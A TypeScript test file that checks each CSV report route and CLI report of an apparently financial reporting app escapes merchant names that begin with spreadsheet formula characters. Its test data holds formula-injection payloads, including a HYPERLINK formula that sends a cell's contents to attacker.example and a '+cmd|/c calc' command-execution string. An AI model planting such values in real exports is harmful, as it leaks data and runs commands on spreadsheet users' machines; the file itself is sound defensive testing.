import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_DATABASE_URL } from '../support/database.ts';
import { insertTransaction } from '../support/fixtures.ts';
import { request } from '../support/http.ts';
import { ROOT } from '../support/process.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

// Spreadsheet formula injection (#14.11): merchant names are merchant-controlled text, and finance opens the CSV
// reports in a spreadsheet, which runs a cell starting with = + - @ (or a tab or CR before one) as a formula.
// Every CSV a route serves, and the CLI's, must show such text as text.

const DATE = '2026-11-02';
// (Names cannot hold a tab or CR: createMerchant refuses control characters; test/domain/reporting.test.ts covers them.)
const HOSTILE_NAMES = ['=HYPERLINK("https://attacker.example/?"&A1,"Refund")', '+cmd|/c calc!A1', '-2+3', '@SUM(A1:A9)'];

/** Each CSV route with the query that makes it list merchant names (ADMIN). A new CSV route needs its line here. */
const CSV_QUERIES: Record<string, string> = {
  '/reports/daily.csv': `date=${DATE}&timeZone=UTC`,
  '/reports/stats.csv': `from=${DATE}&to=${DATE}&timeZone=UTC&groupBy=MERCHANT`,
};

let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
  for (const name of HOSTILE_NAMES) {
    const { merchantId } = await server.createMerchant(name);
    await insertTransaction(server.db, { merchantId, createdAt: `${DATE}T10:00:00Z`, amountMinor: 1999n, currency: 'EUR' });
  }
});
afterAll(() => server?.close());

/** The cells of an RFC 4180 text, as a spreadsheet receives them (quotes removed, doubled quotes undone). */
function cells(csv: string): string[] {
  const found: string[] = [];
  for (const match of csv.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]*)/g)) {
    if (match.index === csv.length) break;
    found.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''));
  }
  return found;
}

function expectNoFormula(csv: string, where: string): void {
  const formulas = cells(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
  expect(formulas, where).toEqual([]);
  // The names are there, shown as text (so the check above looked at them).
  for (const name of HOSTILE_NAMES) expect(cells(csv), where).toContain(`'${name}`);
}

describe('CSV formula injection: merchant names reach every CSV as text', () => {
  it('every CSV route', async () => {
    const csvRoutes = [...server.app.routes.keys()].filter((path) => path.endsWith('.csv'));
    expect(csvRoutes).toEqual(expect.arrayContaining(Object.keys(CSV_QUERIES)));
    for (const path of csvRoutes) {
      expect(CSV_QUERIES, `${path} has no query in CSV_QUERIES`).toHaveProperty([path]);
      const response = await request(`${server.url}${path}?${CSV_QUERIES[path]}`, { headers: { authorization: `Bearer ${server.adminKey}` } });
      expect(response.status, path).toBe(200);
      expectNoFormula(response.text, path);
    }
  });

  it.skipIf(TEST_DATABASE_URL === undefined)('the CLI reports', async () => {
    const env = { ...process.env, DATABASE_URL: server.db.url ?? '', LOG_LEVEL: 'warn' };
    for (const args of [
      ['report:daily', '--date', DATE, '--timeZone', 'UTC'],
      ['report:stats', '--from', DATE, '--to', DATE, '--timeZone', 'UTC', '--groupBy', 'MERCHANT'],
    ]) {
      const { stdout } = await promisify(execFile)('npm', ['run', '--silent', 'cli', '--', ...args], { cwd: ROOT, env });
      expectNoFormula(stdout, args.join(' '));
    }
  }, 60_000);
});
